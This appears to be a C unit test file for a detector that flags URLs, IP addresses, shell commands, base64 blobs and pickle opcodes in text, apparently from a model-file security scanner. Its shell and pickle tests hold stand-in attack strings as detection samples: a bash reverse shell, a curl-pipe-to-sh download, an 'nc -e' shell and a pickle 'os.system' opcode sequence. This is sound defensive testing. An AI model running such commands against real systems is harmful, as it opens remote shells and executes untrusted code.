/* Indicators: each class found where it is, and not in look-alikes. */
#include "mg_test.h"
#include "pickle/indicators.h"

static uint16_t
cls(const char *s)
{
    return mg_ind_classify(s, strlen(s));
}

static void
extract(const char *s, uint16_t c, const char *want)
{
    char out[256];
    assert_true(mg_ind_extract(s, strlen(s), c, out, sizeof(out)) > 0);
    assert_string_equal(out, want);
}

static void
test_urls(void **state)
{
    (void)state;
    assert_true(cls("get http://example.com/x.sh now") & IND_URL);
    extract("get http://example.com/x.sh now", IND_URL,
            "http://example.com/x.sh");
    assert_true(cls("HTTPS://EXAMPLE.COM") & IND_URL);
    assert_false(cls("the http:// scheme") & IND_URL);
}

static void
test_ips(void **state)
{
    (void)state;
    assert_true(cls("connect 192.0.2.1:4444") & IND_IPV4);
    extract("connect 192.0.2.1:4444", IND_IPV4, "192.0.2.1");
    assert_false(cls("version 1.13.1 here") & IND_IPV4);
    assert_false(cls("1.2.3.4.5 is not an address") & IND_IPV4);
    assert_false(cls("999.1.1.1 is not") & IND_IPV4);
    assert_true(cls("to 2001:db8::1 now") & IND_IPV6);
    assert_true(cls("fe80:0:0:0:0:0:0:1") & IND_IPV6);
    assert_false(cls("at 12:30:45 today") & IND_IPV6);
    assert_false(cls("std::vector<int>") & IND_IPV6);
}

static void
test_shell(void **state)
{
    (void)state;
    assert_true(cls("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1") & IND_SHELL);
    assert_true(cls("curl -s http://example.com/a | sh") & IND_SHELL);
    assert_true(cls("nc -e /bin/sh 192.0.2.1 1") & IND_SHELL);
    assert_false(cls("layer.weight") & IND_SHELL);
    assert_false(cls("encoder.layers.0.self_attn") & IND_SHELL);
}

static void
test_base64_and_pickle(void **state)
{
    (void)state;
    const char *b64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2VjaG8gbW9kZWxnYXRlLXRlc3"
                      "QnKSAjIHBhZGRpbmcgcGFkZGluZyBwYWRkaW5nIHBhZGRpbmc=";
    assert_true(cls(b64) & IND_BASE64);
    /* a hex digest is long but not base64-shaped */
    assert_false(cls("e8450dec4eb99dae995da9af1bc2cc9f76ed669ee2e744f57abba7"
                     "63df3e3f8e0000000000000000000000") &
                 IND_BASE64);
    assert_true(mg_ind_classify("\x80\x04\x95\x00\x00", 5) & IND_PICKLE);
    assert_true(cls("cos\nsystem\n(S'x'\ntR.") & IND_PICKLE);
    assert_false(cls("cat\n") & IND_PICKLE);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_urls),
        cmocka_unit_test(test_ips),
        cmocka_unit_test(test_shell),
        cmocka_unit_test(test_base64_and_pickle),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
